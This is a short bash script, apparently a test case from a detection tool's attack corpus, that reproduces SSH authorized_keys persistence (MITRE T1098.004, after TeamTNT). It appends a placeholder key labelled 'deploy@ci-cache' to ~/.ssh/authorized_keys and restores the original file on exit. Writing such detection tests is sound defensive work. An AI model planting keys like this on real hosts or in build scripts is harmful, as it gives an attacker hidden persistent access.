#!/bin/bash
# technique: T1098.004 Account Manipulation: SSH Authorized Keys
# reproduces: TeamTNT (Cado Security, 2020) added its own key to ~/.ssh/authorized_keys on every host it reached; on a self-hosted runner it is a way back in after the job
# expect: persistence-write ^(bash|cat)$
# exec-borne: no
set -u

keys="$HOME/.ssh/authorized_keys"
had_keys=false
[ -e "$keys" ] && had_keys=true
cp_backup="${BW_ATTACK_TMP:?}/ak.bak"
$had_keys && cat "$keys" >"$cp_backup"
restore() {
	if $had_keys; then cat "$cp_backup" >"$keys"; else rm -f "$keys"; fi
	rm -f "$cp_backup"
}
trap restore EXIT

mkdir -p "$HOME/.ssh" && chmod 700 "$HOME/.ssh"
cat >>"$keys" <<'KEY'
ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForBuildwardenAttackCorpusNotARealKey0 deploy@ci-cache
KEY
chmod 600 "$keys"
grep -q deploy@ci-cache "$keys"
